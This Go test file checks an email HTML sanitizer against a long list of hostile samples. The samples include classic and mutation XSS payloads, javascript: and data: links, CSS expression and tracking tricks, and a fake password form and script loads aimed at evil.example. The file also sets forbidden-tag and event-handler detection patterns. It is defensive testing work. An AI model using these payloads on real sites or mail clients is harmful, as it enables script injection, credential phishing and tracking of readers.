package message_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/mailstead/mailstead/message"
)

// hostile are the classics of cross-site scripting, mutation XSS, styles that
// run or overlay, and everything else that a mail must not do. Each is put
// between two harmless texts that have to survive.
var hostile = []struct{ name, html string }{
	{"script", `<script>alert(1)</script>`},
	{"script in upper case", `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`},
	{"script without end", `<script>alert(1)//`},
	{"script cut by null", "<scr\x00ipt>alert(1)</scr\x00ipt>"},
	{"script in script", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"image error handler", `<img src=x onerror=alert(1)>`},
	{"image error handler without spaces", `<img/src="x"/onerror=alert(1)>`},
	{"image error handler in backticks", "<img src=`x`onerror=alert(1)>"},
	{"event handler on a link", `<a href="https://a.example" onclick="alert(1)">x</a>`},
	{"event handler after a newline", "<div\nonmouseover\n=\nalert(1)>x</div>"},
	{"event handler with a null", "<div on\x00click=alert(1)>x</div>"},
	{"autofocus", `<input autofocus onfocus=alert(1)>`},
	{"details toggle", `<details open ontoggle=alert(1)>x</details>`},
	{"body load", `<body onload=alert(1)>`},
	{"svg load", `<svg onload=alert(1)>`},
	{"svg script", `<svg><script>alert(1)</script></svg>`},
	{"svg script with entities", `<svg><script>&#97;lert(1)</script></svg>`},
	{"svg animate", `<svg><a xlink:href="javascript:alert(1)"><animate attributeName=href values=javascript:alert(1) /></a></svg>`},
	{"svg foreignObject", `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`},
	{"svg use", `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>`},
	{"math link", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`},
	{"mutation: math and style", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
	{"mutation: noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
	{"mutation: svg and p", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
	{"mutation: form", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`},
	{"mutation: title", `<title><a title="</title><img src=x onerror=alert(1)>">x</a></title>`},
	{"mutation: textarea", `<textarea><a title="</textarea><img src=x onerror=alert(1)>">x</a></textarea>`},
	{"mutation: xmp", `<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`},
	{"mutation: template", `<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>`},
	{"mutation: comment", `<!--><img src=x onerror=alert(1)>-->`},
	{"mutation: comment with bang", `<!-- --!><img src=x onerror=alert(1)> -->`},
	{"mutation: cdata", `<![CDATA[<img src=x onerror=alert(1)>]]>`},
	{"javascript link", `<a href="javascript:alert(1)">x</a>`},
	{"javascript link in mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`},
	{"javascript link with entities", `<a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a>`},
	{"javascript link with a tab", "<a href=\"jav\tascript:alert(1)\">x</a>"},
	{"javascript link with a newline", "<a href=\"java&NewLine;script:alert(1)\">x</a>"},
	{"javascript link behind control characters", "<a href=\"\x01\x02javascript:alert(1)\">x</a>"},
	{"javascript link behind spaces", `<a href="   javascript:alert(1)">x</a>`},
	{"vbscript link", `<a href="vbscript:msgbox(1)">x</a>`},
	{"data link", `<a href="data:text/html,<script>alert(1)</script>">x</a>`},
	{"data link in base64", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`},
	{"file link", `<a href="file:///etc/passwd">x</a>`},
	{"relative link", `<a href="/api/v1/accounts">x</a>`},
	{"link without scheme", `<a href="//evil.example/x">x</a>`},
	{"blob image", `<img src="blob:https://a.example/1">`},
	{"javascript image", `<img src="javascript:alert(1)">`},
	{"data image with script", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`},
	{"data image that is html", `<img src="data:text/html,<script>alert(1)</script>">`},
	{"image by path", `<img src="/api/v1/logout">`},
	{"iframe", `<iframe src="https://evil.example"></iframe>`},
	{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"object", `<object data="https://evil.example/x.swf"></object>`},
	{"embed", `<embed src="https://evil.example/x.swf">`},
	{"applet", `<applet code=Evil></applet>`},
	{"form", `<form action="https://evil.example"><input name=p type=password><button>Sign in</button></form>`},
	{"button with form action", `<button formaction="javascript:alert(1)">x</button>`},
	{"meta refresh", `<meta http-equiv=refresh content="0;url=https://evil.example">`},
	{"meta with script", `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`},
	{"base", `<base href="https://evil.example/">`},
	{"link stylesheet", `<link rel=stylesheet href="https://evil.example/x.css">`},
	{"style block import", `<style>@import url(https://evil.example/x.css);</style>`},
	{"style block overlay", `<style>body{position:fixed}</style>`},
	{"style expression", `<div style="width:expression(alert(1))">x</div>`},
	{"style expression with comment", `<div style="width:exp/**/ression(alert(1))">x</div>`},
	{"style expression with escapes", `<div style="width:\65xpression(alert(1))">x</div>`},
	{"style javascript url", `<div style="background:url(javascript:alert(1))">x</div>`},
	{"style url with escapes", `<div style="background:u\72l(https://evil.example/t.gif)">x</div>`},
	{"style image-set", `<div style="background-image:image-set('https://evil.example/t.gif' 1x)">x</div>`},
	{"style binding", `<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>`},
	{"style behavior", `<div style="behavior:url(x.htc)">x</div>`},
	{"style position", `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>`},
	{"style transform", `<div style="transform:translate(-100px)">x</div>`},
	{"style negative margin", `<div style="margin-top:-500px">x</div>`},
	{"style list image", `<ul style="list-style-image:url(https://evil.example/t.gif)"><li>x</ul>`},
	{"style list image, short", `<ul style="list-style:url(https://evil.example/t.gif)"><li>x</ul>`},
	{"style border image", `<div style="border-image:url(https://evil.example/t.gif)">x</div>`},
	{"style cursor", `<div style="cursor:url(https://evil.example/t.cur),auto">x</div>`},
	{"style content", `<div style="content:url(https://evil.example/t.gif)">x</div>`},
	{"style variable", `<div style="--x:url(https://evil.example/t.gif);background:var(--x)">x</div>`},
	{"style font url", `<div style="font:12px url(https://evil.example/f)">x</div>`},
	{"style breaking out", `<div style="color:red;}</style><script>alert(1)</script>">x</div>`},
	{"style quote breaking out", `<div style='font-family:"><img src=x onerror=alert(1)>'>x</div>`},
	{"attribute breaking out", `<img alt='"><script>alert(1)</script>' src=x>`},
	{"title breaking out", `<b title="&quot;><script>alert(1)</script>">x</b>`},
	{"video poster", `<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4" onerror=alert(1)></video>`},
	{"audio", `<audio src="https://evil.example/a.mp3" autoplay></audio>`},
	{"srcset", `<img srcset="https://evil.example/1.png 1x">`},
	{"picture", `<picture><source srcset="https://evil.example/1.png"><img src="https://evil.example/2.png"></picture>`},
	{"input image", `<input type=image src="https://evil.example/1.png">`},
	{"bgsound", `<bgsound src="https://evil.example/1.mid">`},
	{"table background", `<table background="https://evil.example/1.png"><tr><td>x</table>`},
	{"body background", `<body background="https://evil.example/1.png">x</body>`},
	{"lowsrc", `<img lowsrc="https://evil.example/1.png" dynsrc="https://evil.example/2.avi">`},
	{"image without scheme", `<img src="//evil.example/1.png">`},
	{"image with backslashes", `<img src="\\evil.example\1.png">`},
	{"image by path with backslash", `<img src="/\evil.example/1.png">`},
	{"image with newline in scheme", "<img src=\"ht\ntps://evil.example/1.png\">"},
	{"id and name clobbering", `<a id=location name=cookie href="https://a.example">x</a>`},
	{"class", `<div class="btn btn-primary">x</div>`},
	{"custom element", `<x-evil onfoo=alert(1)>x</x-evil>`},
	{"slot", `<slot onslotchange=alert(1)>x</slot>`},
	{"marquee", `<marquee onstart=alert(1)>x</marquee>`},
	{"isindex", `<isindex type=image src=1 onerror=alert(1)>`},
	{"plaintext", `<b>x</b><!-- <plaintext> -->`},
	{"processing instruction", `<?xml-stylesheet href="javascript:alert(1)"?>`},
	{"utf-7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
	{"wide characters", `＜script＞alert(1)＜/script＞`},
	{"half-closed tag", `<img src=x onerror=alert(1) `},
	{"nested quotes", `<a href='https://a.example/"onmouseover="alert(1)'>x</a>`},
	{"ping", `<a href="https://a.example" ping="https://evil.example">x</a>`},
	{"download", `<a href="https://a.example/x.exe" download>x</a>`},
	{"target", `<a href="https://a.example" target="_top">x</a>`},
}

// what no safe HTML may hold, as browsers read it. Texts between tags and values
// of attributes may hold anything as long as it is escaped.
var (
	tags     = regexp.MustCompile(`<[^>]*>`)
	handlers = regexp.MustCompile(`(?i)\son[a-z]+\s*=`)
	forbid   = regexp.MustCompile(`(?i)^</?(script|style|iframe|object|embed|applet|form|input|button|textarea|select|meta|base|link|svg|math|video|audio|source|picture|template|frame|frameset|body|html|head|title|marquee|slot|isindex|bgsound|xmp|plaintext|noscript|x-)`)
)

// outside of values, in tags only.
func stripValues(tag string) string { return regexp.MustCompile(`"[^"]*"`).ReplaceAllString(tag, `""`) }

func TestHostileHTMLIsMadeHarmless(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := message.SanitizeHTML("<p>before</p>"+tc.html, message.HTMLOptions{})
			if !strings.Contains(got, "<p>before</p>") {
				t.Errorf("harmless text was lost: %s", got)
			}
			for _, tag := range tags.FindAllString(got, -1) {
				bare := stripValues(tag)
				if forbid.MatchString(tag) || handlers.MatchString(bare) {
					t.Errorf("tag %s in %s", tag, got)
				}
				for _, name := range []string{"id=", "class=", "name=", "srcset=", "ping=", "download", "poster=", "action=", "xlink", "formaction"} {
					if strings.Contains(bare, " "+name) {
						t.Errorf("attribute %s in %s", name, got)
					}
				}
				low := strings.ToLower(tag)
				for _, bad := range []string{"javascript:", "vbscript:", "data:text", "data:image/svg", "file:", "expression(", "url(", "position:", "behavior", "-moz-binding", "evil.example"} {
					if strings.Contains(low, bad) && !strings.Contains(low, "alt=") && !strings.Contains(low, "title=") {
						t.Errorf("%s in %s", bad, got)
					}
				}
				if strings.HasPrefix(low, "<a ") && strings.Contains(low, "href=") &&
					(!strings.Contains(low, "noopener") || !strings.Contains(low, "noreferrer") || !strings.Contains(low, "nofollow") || !strings.Contains(low, `target="_blank"`)) {
					t.Errorf("link without rel and target: %s", tag)
				}
			}
			again, _ := message.SanitizeHTML(got, message.HTMLOptions{})
			if again != got {
				t.Errorf("not stable:\n got %s\nthen %s", got, again)
			}
		})
	}
	if len(hostile) < 40 {
		t.Errorf("%d samples", len(hostile))
	}
}

func TestUsualHTMLIsKept(t *testing.T) {
	cid := func(id string) string {
		if id != "logo@example.com" {
			return ""
		}
		return "/parts/0"
	}
	tests := []struct {
		name, html      string
		blocked, remote string
		count           int
	}{
		{
			"picture", `<img src="https://a.example/1.png?x=1&amp;y=2" width=20 alt="A">`,
			`<img width="20" alt="A">`, `<img src="https://a.example/1.png?x=1&amp;y=2" width="20" alt="A">`, 1,
		},
		{"picture without scheme", `<img src="//a.example/1.png">`, ``, `<img src="https://a.example/1.png">`, 1},
		{"picture of the mail", `<img src="cid:logo@example.com">`, `<img src="/parts/0">`, `<img src="/parts/0">`, 0},
		{"picture of the mail, encoded", `<img src="CID:logo%40example.com">`, `<img src="/parts/0">`, `<img src="/parts/0">`, 0},
		{"picture of the mail that is missing", `<img src="cid:other" alt="Logo">`, `<img alt="Logo">`, `<img alt="Logo">`, 0},
		{"picture inside of the address", `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`, 0},
		{
			"background of a style", `<p style="color:red; background:#fff url('https://a.example/b.png') no-repeat">x</p>`,
			`<p style="color: red; background: #fff no-repeat">x</p>`, `<p style="color: red; background: url(&#39;https://a.example/b.png&#39;) #fff no-repeat">x</p>`, 1,
		},
		{
			"background of a table", `<table background="http://a.example/b.png" bgcolor="#ffffff"><tr><td>x</td></tr></table>`,
			`<table bgcolor="#ffffff"><tr><td>x</td></tr></table>`, `<table background="http://a.example/b.png" bgcolor="#ffffff"><tr><td>x</td></tr></table>`, 1,
		},
		{
			"link", `<a href="https://a.example/?a=1&amp;b=2" target=_top rel=opener>x</a>`,
			`<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
			`<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>`, 0,
		},
		{
			"link to an address", `<a href="mailto:anna@example.com?subject=Hi">x</a>`,
			`<a href="mailto:anna@example.com?subject=Hi" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
			`<a href="mailto:anna@example.com?subject=Hi" rel="noopener noreferrer nofollow" target="_blank">x</a>`, 0,
		},
		{"colours of the body", `<html><body bgcolor="#eee" text=black>x</body></html>`, `<div bgcolor="#eee" style="background-color: #eee; color: black">x</div>`, `<div bgcolor="#eee" style="background-color: #eee; color: black">x</div>`, 0},
		{
			"layout", `<td valign=top style="padding:0 10px;border:1px solid rgb(1, 2, 3);font-family:'Segoe UI',Arial;mso-line-height-rule:exactly">x</td>`,
			`<td valign="top" style="padding: 0 10px; border: 1px solid rgb(1, 2, 3); font-family: &#39;Segoe UI&#39;,Arial">x</td>`,
			`<td valign="top" style="padding: 0 10px; border: 1px solid rgb(1, 2, 3); font-family: &#39;Segoe UI&#39;,Arial">x</td>`, 0,
		},
		{"font", `<font face="Arial, sans-serif" color=red size=+1>x</font>`, `<font face="Arial, sans-serif" color="red" size="+1">x</font>`, `<font face="Arial, sans-serif" color="red" size="+1">x</font>`, 0},
		{"text", `5 &lt; 6 &amp; "7" € <b>b</b>`, `5 &lt; 6 &amp; &#34;7&#34; € <b>b</b>`, `5 &lt; 6 &amp; &#34;7&#34; € <b>b</b>`, 0},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, count := message.SanitizeHTML(tc.html, message.HTMLOptions{CID: cid})
			if got != tc.blocked || count != tc.count {
				t.Errorf("blocked:\n got %d %s\nwant %d %s", count, got, tc.count, tc.blocked)
			}
			got, count = message.SanitizeHTML(tc.html, message.HTMLOptions{CID: cid, Remote: true})
			if got != tc.remote || count != 0 {
				t.Errorf("remote:\n got %d %s\nwant %s", count, got, tc.remote)
			}
		})
	}
}

func TestPlainMailIsShownAsHTML(t *testing.T) {
	m, err := message.Read([]byte("From: anna@example.com\r\n\r\n<b>a</b>\r\nb\r\n"))
	if err != nil {
		t.Fatal(err)
	}
	got, blocked := m.SafeHTML(message.HTMLOptions{})
	if want := "<div>&lt;b&gt;a&lt;/b&gt;<br>\nb</div>"; got != want || blocked != 0 {
		t.Errorf("got %d %s, want %s", blocked, got, want)
	}
}

func FuzzSafeHTML(f *testing.F) {
	for _, tc := range hostile {
		f.Add(tc.html)
	}
	f.Fuzz(func(t *testing.T, source string) {
		got, _ := message.SanitizeHTML(source, message.HTMLOptions{})
		for _, tag := range tags.FindAllString(got, -1) {
			if bare := stripValues(tag); forbid.MatchString(tag) || handlers.MatchString(bare) {
				t.Errorf("%q gives %q in %q", source, tag, got)
			}
		}
	})
}
